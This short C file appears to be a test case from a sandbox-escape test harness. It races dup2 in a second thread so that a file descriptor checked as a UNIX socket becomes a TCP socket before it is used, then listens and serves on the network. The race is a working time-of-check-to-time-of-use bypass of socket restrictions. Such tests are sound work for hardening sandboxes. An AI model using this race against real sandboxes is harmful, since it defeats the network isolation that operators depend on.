#include "attack.h"
// dup2 puts another socket under the number between the check and the use.
static volatile bool stop;
static int number = -1;
static void *swap(void *x) {
  int unixfd = socket(AF_UNIX, SOCK_STREAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0);
  while (!stop) dup2(unixfd, number), dup2(tcp, number);
  return x;
}
ATTACK(.judge = "reach") {
  pthread_t t;
  number = fcntl(socket(AF_UNIX, SOCK_STREAM, 0), F_DUPFD, 50);
  pthread_create(&t, NULL, swap, NULL);
  for (double end = now() + 0.6; now() < end && !stop;) {
    listen(number, 4);
    struct sockaddr_in a = {0};
    socklen_t n = sizeof a;
    if (!getsockname(number, (void *)&a, &n) && a.sin_family == AF_INET && a.sin_port) stop = true;
  }
  stop = true;
  pthread_join(t, NULL);
  serve(number, AF_INET);
}
